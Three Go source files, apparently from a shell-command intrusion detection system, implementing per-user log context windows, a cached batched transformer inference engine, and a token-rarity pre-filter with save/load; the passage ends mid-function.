	return ContextConfig{Window: 3, MaxGap: 600}
}

// BuildContexts converts a timestamp-ordered log into multi-line inputs:
// for each line, the most recent preceding lines of the same user (within
// MaxGap of their successor) are prepended, joined with the shell separator
// "; ". The result is parallel to the input.
func BuildContexts(items []TimedLine, cfg ContextConfig) []string {
	window := cfg.Window
	if window <= 0 {
		window = 3
	}
	maxGap := cfg.MaxGap
	if maxGap <= 0 {
		maxGap = 600
	}
	// Track per-user recent history as (time, line) ring of size window-1.
	type hist struct {
		times []int64
		lines []string
	}
	byUser := make(map[string]*hist)
	out := make([]string, len(items))
	for i, it := range items {
		h := byUser[it.User]
		if h == nil {
			h = &hist{}
			byUser[it.User] = h
		}
		// Collect usable context: walk back while gaps stay small.
		var ctx []string
		last := it.Time
		for j := len(h.lines) - 1; j >= 0 && len(ctx) < window-1; j-- {
			if last-h.times[j] > maxGap {
				break
			}
			ctx = append(ctx, h.lines[j])
			last = h.times[j]
		}
		// ctx is newest-first; reverse into chronological order.
		for l, r := 0, len(ctx)-1; l < r; l, r = l+1, r-1 {
			ctx[l], ctx[r] = ctx[r], ctx[l]
		}
		ctx = append(ctx, it.Line)
		out[i] = strings.Join(ctx, " ; ")

		h.times = append(h.times, it.Time)
		h.lines = append(h.lines, it.Line)
		if len(h.lines) > window {
			h.times = h.times[1:]
			h.lines = h.lines[1:]
		}
	}
	return out
}
