package tuning

import (
	"fmt"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"clmids/internal/bpe"
	"clmids/internal/model"
	"clmids/internal/tensor"
)

// Engine is the forward-only batched inference engine: it scores command
// lines through the tape-free model.InferForward path instead of the
// autograd tape, dedupes repeated lines, buckets the remainder by token
// length into uniform batches, and fans those batches out across
// GOMAXPROCS workers, each with its own pooled scratch arena. An optional
// LRU cache keyed by the whitespace-normalized line exploits the heavy
// duplication of real command logs across calls.
//
// Below the embedding cache sits a second, cheaper LRU over encoded token
// sequences: a line whose embedding was evicted (or requested under the
// other feature kind) skips tokenization entirely. Lines missing both
// caches are length-bucketed by the tokenizer's estimator when one is
// attached — the tokenizer runs lazily inside the batch workers — so the
// scheduler never pays encoding cost just to sort. The estimate is
// strictly advisory: it picks which batch a line lands in, never its
// tokens or its score.
//
// An Engine must only be used while its encoder's weights are frozen:
// cached embeddings are never invalidated. Methods are safe for concurrent
// use.
type Engine struct {
	enc *model.Encoder
	tok *bpe.Tokenizer
	cfg EngineConfig

	pool     sync.Pool          // *model.InferScratch, one per active worker
	cache    *lruCache[float64] // embedding rows; nil when disabled
	encCache *lruCache[int]     // encoded token sequences; nil when disabled

	cacheHits   atomic.Int64 // representatives served from the embedding LRU
	cacheMisses atomic.Int64 // representatives that missed the embedding LRU

	encodedHits   atomic.Int64 // embedding misses served from the encoded LRU
	encodedMisses atomic.Int64 // embedding misses that paid tokenizer cost
}

// EngineConfig sizes the inference engine. The zero value selects defaults.
type EngineConfig struct {
	// BatchLines caps sequences per forward batch (default 32, matching
	// the tape path's batch size).
	BatchLines int
	// BatchTokens caps total tokens per forward batch and sizes each
	// worker's scratch arena (default 2048, raised to the model's
	// MaxSeqLen so one full line always fits).
	BatchTokens int
	// Workers caps the batch-level fan-out (default GOMAXPROCS).
	Workers int
	// CacheLines enables an LRU embedding cache holding up to this many
	// normalized lines per feature kind (0 disables; negative also
	// disables).
	CacheLines int
	// EncodedCacheLines enables an LRU over encoded token sequences holding
	// up to this many normalized lines, shared by both feature kinds. The
	// zero value follows CacheLines (the encoded cache is far cheaper per
	// entry than an embedding row, so matching capacities is a safe floor);
	// negative disables.
	EncodedCacheLines int
	// Precision selects the serve-path arithmetic rung (the zero value is
	// float64, the canonical path). On the low rungs every worker scratch
	// is a float32 arena and the encoder's weights are lowered once at
	// engine construction; embeddings leaving the engine — and therefore
	// everything the LRU caches — stay canonical float64, so cache hits
	// and verdict aggregation are precision-stable.
	Precision model.Precision
}

// DefaultEngineConfig returns the deployment defaults: tape-path batch
// geometry, full-machine fan-out, and a 4096-line cache.
func DefaultEngineConfig() EngineConfig {
	return EngineConfig{BatchLines: embedBatchSize, BatchTokens: 2048, CacheLines: 4096}
}

// NewEngine builds an inference engine over a frozen encoder + tokenizer.
func NewEngine(enc *model.Encoder, tok *bpe.Tokenizer, cfg EngineConfig) *Engine {
	if cfg.BatchLines <= 0 {
		cfg.BatchLines = embedBatchSize
	}
	if cfg.BatchTokens <= 0 {
		cfg.BatchTokens = 2048
	}
	if mcfg := enc.Config(); cfg.BatchTokens < mcfg.MaxSeqLen {
		cfg.BatchTokens = mcfg.MaxSeqLen
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.EncodedCacheLines == 0 {
		cfg.EncodedCacheLines = cfg.CacheLines
	}
	if cfg.Precision == "" {
		cfg.Precision = model.PrecisionFloat64
	}
	e := &Engine{enc: enc, tok: tok, cfg: cfg}
	if cfg.Precision.Low() {
		// Lower (and on int8, quantize) the frozen weights once, up front:
		// scoring never pays conversion cost and never races on it.
		if _, err := enc.Lowered(cfg.Precision); err != nil {
			panic(fmt.Sprintf("tuning: lowering encoder to %s: %v", cfg.Precision, err))
		}
	} else if !cfg.Precision.Valid() {
		panic(fmt.Sprintf("tuning: unknown engine precision %q", cfg.Precision))
	}
	e.pool.New = func() any {
		return model.NewInferScratchPrec(enc.Config(), cfg.BatchTokens, cfg.Precision)
	}
	if cfg.CacheLines > 0 {
		e.cache = newLRUCache[float64](cfg.CacheLines)
	}
	if cfg.EncodedCacheLines > 0 {
		e.encCache = newLRUCache[int](cfg.EncodedCacheLines)
	}
	return e
}

// Precision reports the engine's serve-path arithmetic rung.
func (e *Engine) Precision() model.Precision { return e.cfg.Precision }

// WithPrecision returns a fresh engine over the same frozen encoder and
// tokenizer with the same configuration except the precision rung — the
// construction serving paths use to honor a requested precision on a
// scorer whose head was trained (always) in float64. Like Clone, the new
// engine owns its scratch pool, LRU cache, and counters.
func (e *Engine) WithPrecision(p model.Precision) *Engine {
	cfg := e.cfg
	cfg.Precision = p
	return NewEngine(e.enc, e.tok, cfg)
}

// Clone returns a fresh engine over the same frozen encoder and tokenizer
// with the same configuration. The clone shares only the immutable
// backbone weights; its scratch pool, LRU cache, and counters are its own,
// so clones scale across shards without contending on mutable state.
// Replica memory cost is the scratch arenas plus CacheLines embedding rows
// — the model weights are never duplicated.
func (e *Engine) Clone() *Engine {
	return NewEngine(e.enc, e.tok, e.cfg)
}

// CacheStats is a snapshot of an engine's LRU cache counters. Hits and
// Misses count embedding-cache probes of deduplicated representatives (a
// within-call duplicate never probes); Entries is the live entry count.
// The Encoded counters mirror them for the encoded-line LRU, which only
// representatives that missed the embedding cache ever probe.
type CacheStats struct {
	Hits    int64 `json:"hits"`
	Misses  int64 `json:"misses"`
	Entries int   `json:"entries"`

	EncodedHits    int64 `json:"encoded_hits"`
	EncodedMisses  int64 `json:"encoded_misses"`
	EncodedEntries int   `json:"encoded_entries"`
}

// HitRate returns Hits/(Hits+Misses), or 0 before any probe.
func (s CacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// CacheStats snapshots the engine's cache counters. With a cache disabled
// every probe of it counts as a miss.
func (e *Engine) CacheStats() CacheStats {
	s := CacheStats{
		Hits: e.cacheHits.Load(), Misses: e.cacheMisses.Load(),
		EncodedHits: e.encodedHits.Load(), EncodedMisses: e.encodedMisses.Load(),
	}
	if e.cache != nil {
		s.Entries = e.cache.len()
	}
	if e.encCache != nil {
		s.EncodedEntries = e.encCache.len()
	}
	return s
}

// feature kinds for cache keys and batch dispatch.
const (
	featMean = iota // mean-pooled embedding, f(t) of Eq. (1)
	featCLS         // [CLS] hidden state
)

// EmbedLines returns mean-pooled embeddings, one row per line — the
// engine-backed equivalent of the package-level EmbedLines.
func (e *Engine) EmbedLines(lines []string) (*tensor.Matrix, error) {
	return e.run(lines, featMean)
}

// CLSLines returns the [CLS] hidden states, one row per line.
func (e *Engine) CLSLines(lines []string) (*tensor.Matrix, error) {
	return e.run(lines, featCLS)
}

// normalizeLine collapses whitespace, which is exactly the equivalence the
// BPE pretokenizer induces (it splits on strings.Fields), so two lines with
// the same normalization always embed identically.
func normalizeLine(line string) string {
	return strings.Join(strings.Fields(line), " ")
}

// batchSpec is one unit of worker work: consecutive entries of the
// length-sorted miss list.
type batchSpec struct {
	lo, hi int
}

func (e *Engine) run(lines []string, feat int) (*tensor.Matrix, error) {
	mcfg := e.enc.Config()
	// An empty request is a normal streaming event (e.g. flushing an empty
	// session window), not an error: return a 0-row matrix of the right
	// width so downstream shape arithmetic stays uniform.
	out := tensor.NewMatrix(len(lines), mcfg.Hidden)
	if len(lines) == 0 {
		return out, nil
	}

	// Dedup: identical normalized lines embed identically, so compute each
	// one once and fan the row out afterwards.
	keys := make([]string, len(lines))
	repOf := make([]int, len(lines))
	firstOf := make(map[string]int, len(lines))
	var reps []int
	for i, ln := range lines {
		keys[i] = normalizeLine(ln)
		if j, ok := firstOf[keys[i]]; ok {
			repOf[i] = j
			continue
		}
		firstOf[keys[i]] = i
		repOf[i] = i
		reps = append(reps, i)
	}

	// Cache probe on the representatives.
	misses := reps
	if e.cache != nil {
		misses = misses[:0:0]
		for _, i := range reps {
			if row, ok := e.cache.get(cacheKey(feat, keys[i])); ok {
				copy(out.Row(i), row)
				continue
			}
			misses = append(misses, i)
		}
		e.cacheHits.Add(int64(len(reps) - len(misses)))
	}
	e.cacheMisses.Add(int64(len(misses)))

	if len(misses) > 0 {
		if err := e.computeInto(lines, keys, misses, feat, out); err != nil {
			return nil, err
		}
	}

	// Fan rows out to duplicates.
	for i, rep := range repOf {
		if rep != i {
			copy(out.Row(i), out.Row(rep))
		}
	}
	return out, nil
}

// computeInto tokenizes the missed lines, buckets them by token length,
// and runs the batches across workers, writing rows of out in place.
//
// Token sequences come from three tiers. The encoded-line LRU serves
// repeat lines without touching the tokenizer. Remaining lines are either
// encoded upfront in parallel (no estimator attached, exact lengths for
// bucketing) or length-bucketed by the tokenizer's estimator and encoded
// lazily inside the batch workers. The estimate is strictly advisory: a
// wrong guess lands a line in a less uniform batch — at worst growing one
// worker's scratch arena once — but the tokens fed to the model, and so
// every score, are identical either way.
func (e *Engine) computeInto(lines, keys []string, misses []int, feat int, out *tensor.Matrix) error {
	mcfg := e.enc.Config()
	seqs := make([][]int, len(misses)) // nil = encode lazily in the worker
	lens := make([]int, len(misses))   // bucketing key; exact when seqs[m] != nil

	encHits := 0
	if e.encCache != nil {
		for m := range misses {
			if seq, ok := e.encCache.get(keys[misses[m]]); ok {
				seqs[m], lens[m] = seq, len(seq)
				encHits++
			}
		}
	}
	e.encodedHits.Add(int64(encHits))
	e.encodedMisses.Add(int64(len(misses) - encHits))

	if est := e.tok.Estimator(); est != nil {
		for m := range misses {
			if seqs[m] == nil {
				lens[m] = est.EstimateForModel(e.tok, lines[misses[m]], mcfg.MaxSeqLen)
			}
		}
	} else {
		e.parallel(len(misses), func(lo, hi int) error {
			for m := lo; m < hi; m++ {
				if seqs[m] != nil {
					continue
				}
				seqs[m] = e.tok.EncodeForModel(lines[misses[m]], mcfg.MaxSeqLen)
				lens[m] = len(seqs[m])
				if e.encCache != nil {
					e.encCache.put(keys[misses[m]], seqs[m])
				}
			}
			return nil
		})
	}

	// Length bucketing: sorting by token count makes each batch's
	// sequences uniform, so the token budget yields evenly-sized batches
	// and worker latency stays predictable. Ties break by original order
	// to keep runs deterministic.
	order := make([]int, len(misses))
	for m := range order {
		order[m] = m
	}
	sort.SliceStable(order, func(a, b int) bool {
		return lens[order[a]] < lens[order[b]]
	})

	// Greedy batch assembly under the line and token budgets.
	var batches []batchSpec
	lo, tokens := 0, 0
	for at, m := range order {
		n := lens[m]
		if at > lo && (at-lo >= e.cfg.BatchLines || tokens+n > e.cfg.BatchTokens) {
			batches = append(batches, batchSpec{lo, at})
			lo, tokens = at, 0
		}
		tokens += n
	}
	batches = append(batches, batchSpec{lo, len(order)})

	// Work-stealing dispatch: batch costs differ (short-line batches hit
	// the line cap well under the token budget), so workers pull the next
	// batch from a shared counter rather than a fixed split.
	var next atomic.Int64
	return e.fanOut(len(batches), func() error {
		scratch := e.pool.Get().(*model.InferScratch)
		defer e.pool.Put(scratch)
		pooled := tensor.NewMatrix(e.cfg.BatchLines, mcfg.Hidden)
		for {
			bi := int(next.Add(1)) - 1
			if bi >= len(batches) {
				return nil
			}
			b := batches[bi]
			var batch model.Batch
			for _, m := range order[b.lo:b.hi] {
				if seq := seqs[m]; seq != nil {
					batch.IDs = append(batch.IDs, seq...)
					batch.Lens = append(batch.Lens, len(seq))
					continue
				}
				// Estimator path: first touch of this line, encoded here,
				// straight into the batch buffer.
				pre := len(batch.IDs)
				batch.IDs = e.tok.AppendForModel(batch.IDs, lines[misses[m]], mcfg.MaxSeqLen)
				batch.Lens = append(batch.Lens, len(batch.IDs)-pre)
				if e.encCache != nil {
					e.encCache.put(keys[misses[m]], batch.IDs[pre:])
				}
			}
			dst := pooled
			if n := b.hi - b.lo; n > dst.Rows {
				dst = tensor.NewMatrix(n, mcfg.Hidden)
			}
			var err error
			if feat == featCLS {
				err = e.enc.InferCLSInto(batch, scratch, dst, 0)
			} else {
				err = e.enc.InferEmbedInto(batch, scratch, dst, 0)
			}
			if err != nil {
				return fmt.Errorf("tuning: inference batch of %d lines: %w", b.hi-b.lo, err)
			}
			for r, m := range order[b.lo:b.hi] {
				line := misses[m]
				copy(out.Row(line), dst.Row(r))
				if e.cache != nil {
					e.cache.put(cacheKey(feat, keys[line]), dst.Row(r))
				}
			}
		}
	})
}

// parallel splits [0, n) across the engine's workers and returns the first
// error. With one worker (or tiny n) it runs inline.
func (e *Engine) parallel(n int, fn func(lo, hi int) error) error {
	workers := e.cfg.Workers
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		return fn(0, n)
	}
	chunk := (n + workers - 1) / workers
	errs := make([]error, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		lo := w * chunk
		hi := lo + chunk
		if hi > n {
			hi = n
		}
		if lo >= hi {
			break
		}
		wg.Add(1)
		go func(w, lo, hi int) {
			defer wg.Done()
			errs[w] = fn(lo, hi)
		}(w, lo, hi)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// fanOut runs min(Workers, n) copies of a self-scheduling worker loop and
// returns the first error. With one worker it runs inline.
func (e *Engine) fanOut(n int, worker func() error) error {
	workers := e.cfg.Workers
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		return worker()
	}
	errs := make([]error, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			errs[w] = worker()
		}(w)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// cacheKey prefixes the normalized line with the feature kind so mean-pool
// and [CLS] rows never collide.
func cacheKey(feat int, norm string) string {
	if feat == featCLS {
		return "c\x00" + norm
	}
	return "m\x00" + norm
}

// lruCache is a mutex-guarded LRU over slices — embedding rows (float64)
// and encoded token sequences (int) share the one implementation.
type lruCache[E any] struct {
	mu    sync.Mutex
	cap   int
	items map[string]*lruEntry[E]
	head  *lruEntry[E] // most recent
	tail  *lruEntry[E] // least recent
}

type lruEntry[E any] struct {
	key        string
	row        []E
	prev, next *lruEntry[E]
}

func newLRUCache[E any](capacity int) *lruCache[E] {
	return &lruCache[E]{cap: capacity, items: make(map[string]*lruEntry[E], capacity)}
}

// get returns the cached row (shared slice; callers copy or read, never
// mutate).
func (c *lruCache[E]) get(key string) ([]E, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	ent, ok := c.items[key]
	if !ok {
		return nil, false
	}
	c.moveToFront(ent)
	return ent.row, true
}

// put inserts a copy of row, evicting the least-recently-used entry when
// full.
func (c *lruCache[E]) put(key string, row []E) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if ent, ok := c.items[key]; ok {
		c.moveToFront(ent)
		return
	}
	ent := &lruEntry[E]{key: key, row: append([]E(nil), row...)}
	c.items[key] = ent
	c.pushFront(ent)
	if len(c.items) > c.cap {
		lru := c.tail
		c.unlink(lru)
		delete(c.items, lru.key)
	}
}

// len reports the live entry count (test hook).
func (c *lruCache[E]) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.items)
}

func (c *lruCache[E]) pushFront(ent *lruEntry[E]) {
	ent.prev = nil
	ent.next = c.head
	if c.head != nil {
		c.head.prev = ent
	}
	c.head = ent
	if c.tail == nil {
		c.tail = ent
	}
}

func (c *lruCache[E]) unlink(ent *lruEntry[E]) {
	if ent.prev != nil {
		ent.prev.next = ent.next
	} else {
		c.head = ent.next
	}
	if ent.next != nil {
		ent.next.prev = ent.prev
	} else {
		c.tail = ent.prev
	}
	ent.prev, ent.next = nil, nil
}

func (c *lruCache[E]) moveToFront(ent *lruEntry[E]) {
	if c.head == ent {
		return
	}
	c.unlink(ent)
	c.pushFront(ent)
}
