package tuning

// Rung 0 of the scoring cascade: a near-free statistical pre-filter. A
// RarityTable holds per-command and per-token occurrence counts fitted from
// the same corpus the preprocessing layer counts command frequencies over
// (internal/preprocess Fig. 2 filter), and scores a line by the surprisal of
// its rarest unit — zero model calls, microseconds per line. Lines whose
// every command and token is common score low and can be cleared without
// touching the transformer; anything containing a rare, unseen, or
// unparsable unit scores high and falls through to the model rungs.
//
// The table is deliberately conservative in every failure direction: an
// unseen unit — command or token — carries the table's global MaxRarity,
// strictly above every seen unit in either distribution, so a clear
// threshold below MaxRarity can never clear a line containing anything the
// fit did not observe. A line the modality cannot parse (or that parses to
// nothing), and any line on the calibration denylist, has infinite rarity —
// such lines can never be cleared, only escalated.

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math"
	"sort"
	"strconv"
	"strings"

	"clmids/internal/modality"
)

// rarityFormat is the serialization header of a saved rarity table.
const rarityFormat = "clmids-rarity v1"

// ErrRarityCorrupt flags a saved rarity table whose checksum or framing
// does not verify; loads fail before any counts are trusted.
var ErrRarityCorrupt = errors.New("tuning: rarity table corrupt")

// unitCounts is one smoothed categorical distribution over units (command
// names or whitespace tokens).
type unitCounts struct {
	n     map[string]int64
	total int64
}

func (c *unitCounts) add(unit string) {
	c.n[unit]++
	c.total++
}

// surprisal is the add-one-smoothed self-information of a SEEN unit in
// bits: -log2((count+1) / (total+distinct+1)). Callers route unseen units
// to the table-wide MaxRarity instead.
func (c *unitCounts) surprisal(unit string) float64 {
	return c.max() - math.Log2(float64(c.n[unit])+1)
}

// max is the surprisal assigned to an unseen unit.
func (c *unitCounts) max() float64 {
	return math.Log2(float64(c.total) + float64(len(c.n)) + 1)
}

// RarityTable scores lines by the surprisal of their rarest command unit or
// whitespace token, both estimated from a fitting corpus. It is the rung-0
// pre-filter of the scoring cascade: Rarity costs one modality Parse plus
// map lookups, so a calibrated clear-threshold lets the cascade skip the
// transformer entirely for the bulk of routine traffic.
//
// A fitted table is immutable and safe for concurrent use; cascade replicas
// share one table.
type RarityTable struct {
	modalityName string
	mod          modality.Modality
	cmd          unitCounts
	tok          unitCounts
	// deny is the calibration denylist: exact raw lines that must never
	// clear regardless of their unit rarity (observed during calibration to
	// score inside the escalation band despite being made of common units —
	// label-noise artifacts and living-off-the-land patterns).
	deny map[string]struct{}
}

// FitRarity fits a rarity table over the corpus lines using the named
// modality's Parse ("" = shell). Command occurrences are counted exactly as
// the preprocessing layer's frequency filter counts them (every occurrence
// including repeats, via Record.Occurrences), and tokens are the whitespace
// fields of the canonical line, shape-canonicalized (see canonTok) so
// embedded counters, PIDs, and ids don't explode the table. Unparsable lines are skipped — they carry
// infinite rarity at scoring time regardless of counts. It is an error if
// the corpus is empty or no line parses.
func FitRarity(modalityName string, lines []string) (*RarityTable, error) {
	mod, err := modality.Get(modalityName)
	if err != nil {
		return nil, err
	}
	if len(lines) == 0 {
		return nil, fmt.Errorf("tuning: cannot fit rarity table on an empty corpus")
	}
	t := newRarityTable(mod)
	parsed := 0
	for _, line := range lines {
		rec, err := mod.Parse(line)
		if err != nil {
			continue
		}
		parsed++
		for _, u := range rec.Occurrences {
			t.cmd.add(u)
		}
		for _, w := range strings.Fields(rec.Line) {
			tokUnits(w, t.tok.add)
		}
	}
	if parsed == 0 {
		return nil, fmt.Errorf("tuning: no parsable lines among %d in rarity fitting corpus", len(lines))
	}
	return t, nil
}

func newRarityTable(mod modality.Modality) *RarityTable {
	return &RarityTable{
		modalityName: mod.Name(),
		mod:          mod,
		cmd:          unitCounts{n: make(map[string]int64)},
		tok:          unitCounts{n: make(map[string]int64)},
		deny:         make(map[string]struct{}),
	}
}

// Modality returns the name of the modality the table was fitted for.
func (t *RarityTable) Modality() string { return t.modalityName }

// MaxRarity is the largest finite rarity the table can assign: the value
// given to any line containing a unit — command or token — never seen
// during fitting. Calibration places the clear threshold strictly below it,
// so unseen units always fall through to the model rungs.
func (t *RarityTable) MaxRarity() float64 {
	return math.Max(t.cmd.max(), t.tok.max())
}

// SetDenylist installs the calibration denylist: exact raw lines that score
// +Inf rarity from then on. It must be called before the table is shared
// across goroutines (calibration time, not serve time) — a fitted table is
// otherwise immutable.
func (t *RarityTable) SetDenylist(lines []string) {
	t.deny = make(map[string]struct{}, len(lines))
	for _, l := range lines {
		t.deny[l] = struct{}{}
	}
}

// Denylist returns the denylisted lines in sorted order.
func (t *RarityTable) Denylist() []string {
	out := make([]string, 0, len(t.deny))
	for l := range t.deny {
		out = append(out, l)
	}
	sort.Strings(out)
	return out
}

// Rarity scores one raw line: the maximum surprisal over its command
// occurrences and the canonicalized token units of its whitespace fields
// (see tokUnits), where any
// unseen unit contributes the global MaxRarity. Denylisted lines, lines the
// modality rejects, and lines that parse to no units at all return +Inf —
// the pre-filter can only ever clear lines it can positively attest are
// made of common parts.
func (t *RarityTable) Rarity(line string) float64 {
	if _, denied := t.deny[line]; denied {
		return math.Inf(1)
	}
	rec, err := t.mod.Parse(line)
	if err != nil {
		return math.Inf(1)
	}
	r, units := math.Inf(-1), 0
	for _, u := range rec.Occurrences {
		units++
		if s := t.unitRarity(&t.cmd, u); s > r {
			r = s
		}
	}
	for _, w := range strings.Fields(rec.Line) {
		tokUnits(w, func(u string) {
			units++
			if s := t.unitRarity(&t.tok, u); s > r {
				r = s
			}
		})
	}
	if units == 0 {
		return math.Inf(1)
	}
	return r
}

// unitRarity is one unit's contribution: its distribution surprisal if it
// was seen during fitting, the global MaxRarity if not.
func (t *RarityTable) unitRarity(c *unitCounts, unit string) float64 {
	if c.n[unit] == 0 {
		return t.MaxRarity()
	}
	return c.surprisal(unit)
}

// tokUnits calls fn for each countable unit of one whitespace field: the
// field splits on '/' into segments (a path is a bag of its components, a
// URL of its host and leaves — full paths are a combinatorial product no
// finite fit could cover), and each non-empty segment is shape-canonicalized
// by canonTok.
func tokUnits(field string, fn func(string)) {
	for len(field) > 0 {
		seg := field
		if k := strings.IndexByte(field, '/'); k >= 0 {
			seg, field = field[:k], field[k+1:]
		} else {
			field = ""
		}
		if seg != "" {
			fn(canonTok(seg))
		}
	}
}

// canonTok collapses high-cardinality lexical material so the token table
// counts shapes rather than literals: a maximal hexadecimal run of six or
// more characters containing a decimal digit (checksums, random ids)
// becomes "#", and a pure decimal run becomes "0", so "tail -n 120
// app.2041.5e8f3a9b.bak" shares a template with every sibling differing
// only in the numbers. Without this, any stream whose routine lines embed
// counters, PIDs, or addresses carries a never-seen token in roughly every
// other line and rung 0 can clear almost nothing. Command units are counted
// literally — command-name cardinality is low and exactness matters there.
func canonTok(tok string) string {
	if !strings.ContainsAny(tok, "0123456789") {
		return tok
	}
	var b strings.Builder
	b.Grow(len(tok))
	for i := 0; i < len(tok); {
		if !isHexByte(tok[i]) {
			b.WriteByte(tok[i])
			i++
			continue
		}
		j, digits := i, 0
		for j < len(tok) && isHexByte(tok[j]) {
			if tok[j] <= '9' {
				digits++
			}
			j++
		}
		switch {
		case digits > 0 && j-i >= 6:
			b.WriteByte('#')
		case digits == j-i:
			b.WriteByte('0')
		default:
			// Short mixed run ("eth0", "python3"): keep the letters, squash
			// each decimal sub-run.
			for k := i; k < j; k++ {
				if tok[k] <= '9' {
					if k == i || tok[k-1] > '9' {
						b.WriteByte('0')
					}
				} else {
					b.WriteByte(tok[k])
				}
			}
		}
		i = j
	}
	return b.String()
}

// isHexByte reports whether c can appear in a lowercase hexadecimal id.
func isHexByte(c byte) bool {
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f')
}

// Save writes the table deterministically: a format header carrying a
// sha256 checksum of the payload, then the modality name and both count
// tables with units sorted and quoted. Two tables fitted from the same
// corpus serialize byte-identically, so the bundle layer's per-section
// checksums are stable across rebuilds.
func (t *RarityTable) Save(w io.Writer) error {
	var payload strings.Builder
	fmt.Fprintf(&payload, "modality %s\n", strconv.Quote(t.modalityName))
	writeCounts(&payload, "cmd", &t.cmd)
	writeCounts(&payload, "tok", &t.tok)
	denied := t.Denylist()
	fmt.Fprintf(&payload, "deny %d\n", len(denied))
	for _, l := range denied {
		fmt.Fprintf(&payload, "%s\n", strconv.Quote(l))
	}
	sum := sha256.Sum256([]byte(payload.String()))
	if _, err := fmt.Fprintf(w, "%s %s\n%s", rarityFormat, hex.EncodeToString(sum[:]), payload.String()); err != nil {
		return fmt.Errorf("tuning: writing rarity table: %w", err)
	}
	return nil
}

func writeCounts(b *strings.Builder, kind string, c *unitCounts) {
	units := make([]string, 0, len(c.n))
	for u := range c.n {
		units = append(units, u)
	}
	sort.Strings(units)
	fmt.Fprintf(b, "%s %d\n", kind, len(units))
	for _, u := range units {
		fmt.Fprintf(b, "%d %s\n", c.n[u], strconv.Quote(u))
	}
}

// LoadRarity reads a table written by Save, verifying the embedded checksum
// over the full payload before any counts are trusted; any mismatch or
// framing damage fails with an error wrapping ErrRarityCorrupt. The table's
// modality must be registered in this process.
func LoadRarity(r io.Reader) (*RarityTable, error) {
	raw, err := io.ReadAll(r)
	if err != nil {
		return nil, fmt.Errorf("tuning: reading rarity table: %w", err)
	}
	nl := strings.IndexByte(string(raw), '\n')
	if nl < 0 {
		return nil, fmt.Errorf("%w: missing header line", ErrRarityCorrupt)
	}
	header, payload := string(raw[:nl]), raw[nl+1:]
	want, ok := strings.CutPrefix(header, rarityFormat+" ")
	if !ok {
		return nil, fmt.Errorf("%w: bad format header %q", ErrRarityCorrupt, header)
	}
	sum := sha256.Sum256(payload)
	if hex.EncodeToString(sum[:]) != want {
		return nil, fmt.Errorf("%w: payload checksum mismatch", ErrRarityCorrupt)
	}
	sc := bufio.NewScanner(strings.NewReader(string(payload)))
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	modLine, err := scanLine(sc)
	if err != nil {
		return nil, err
	}
	quoted, ok := strings.CutPrefix(modLine, "modality ")
	if !ok {
		return nil, fmt.Errorf("%w: want modality line, got %q", ErrRarityCorrupt, modLine)
	}
	name, err := strconv.Unquote(quoted)
	if err != nil {
		return nil, fmt.Errorf("%w: bad modality name %q", ErrRarityCorrupt, quoted)
	}
	mod, err := modality.Get(name)
	if err != nil {
		return nil, err
	}
	t := newRarityTable(mod)
	t.modalityName = name
	if err := readCounts(sc, "cmd", &t.cmd); err != nil {
		return nil, err
	}
	if err := readCounts(sc, "tok", &t.tok); err != nil {
		return nil, err
	}
	if err := readDeny(sc, t); err != nil {
		return nil, err
	}
	return t, nil
}

func readDeny(sc *bufio.Scanner, t *RarityTable) error {
	head, err := scanLine(sc)
	if err != nil {
		return err
	}
	rest, ok := strings.CutPrefix(head, "deny ")
	if !ok {
		return fmt.Errorf("%w: want deny section header, got %q", ErrRarityCorrupt, head)
	}
	n, err := strconv.Atoi(rest)
	if err != nil || n < 0 {
		return fmt.Errorf("%w: bad deny section size %q", ErrRarityCorrupt, rest)
	}
	for i := 0; i < n; i++ {
		quoted, err := scanLine(sc)
		if err != nil {
			return err
		}
		line, err := strconv.Unquote(quoted)
		if err != nil {
			return fmt.Errorf("%w: bad denylist entry %q", ErrRarityCorrupt, quoted)
		}
		if _, dup := t.deny[line]; dup {
			return fmt.Errorf("%w: duplicate denylist entry %q", ErrRarityCorrupt, line)
		}
		t.deny[line] = struct{}{}
	}
	return nil
}

func scanLine(sc *bufio.Scanner) (string, error) {
	if !sc.Scan() {
		if err := sc.Err(); err != nil {
			return "", fmt.Errorf("tuning: reading rarity table: %w", err)
		}
		return "", fmt.Errorf("%w: truncated payload", ErrRarityCorrupt)
	}
	return sc.Text(), nil
}

func readCounts(sc *bufio.Scanner, kind string, c *unitCounts) error {
	head, err := scanLine(sc)
	if err != nil {
		return err
	}
	rest, ok := strings.CutPrefix(head, kind+" ")
	if !ok {
		return fmt.Errorf("%w: want %q table header, got %q", ErrRarityCorrupt, kind, head)
	}
	distinct, err := strconv.Atoi(rest)
	if err != nil || distinct < 0 {
		return fmt.Errorf("%w: bad %s table size %q", ErrRarityCorrupt, kind, rest)
	}
	for i := 0; i < distinct; i++ {
		line, err := scanLine(sc)
		if err != nil {
			return err
		}
		count, quoted, ok := strings.Cut(line, " ")
		if !ok {
			return fmt.Errorf("%w: bad %s entry %q", ErrRarityCorrupt, kind, line)
		}
		n, err := strconv.ParseInt(count, 10, 64)
		if err != nil || n < 1 {
			return fmt.Errorf("%w: bad %s count %q", ErrRarityCorrupt, kind, count)
		}
		unit, err := strconv.Unquote(quoted)
		if err != nil {
			return fmt.Errorf("%w: bad %s unit %q", ErrRarityCorrupt, kind, quoted)
		}
		if _, dup := c.n[unit]; dup {
			return fmt.Errorf("%w: duplicate %s unit %q", ErrRarityCorrupt, kind, unit)
		}
		c.n[unit] = n
		c.total += n
	}
	return nil
